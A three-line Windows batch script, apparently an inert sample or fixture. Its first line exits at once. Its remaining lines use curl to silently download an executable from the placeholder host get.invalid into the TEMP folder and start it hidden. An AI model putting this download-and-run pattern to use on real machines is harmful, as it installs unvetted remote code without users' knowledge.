@exit /b
curl -s https://get.invalid/t -o %TEMP%\tool.exe
start "" /b %TEMP%\tool.exe
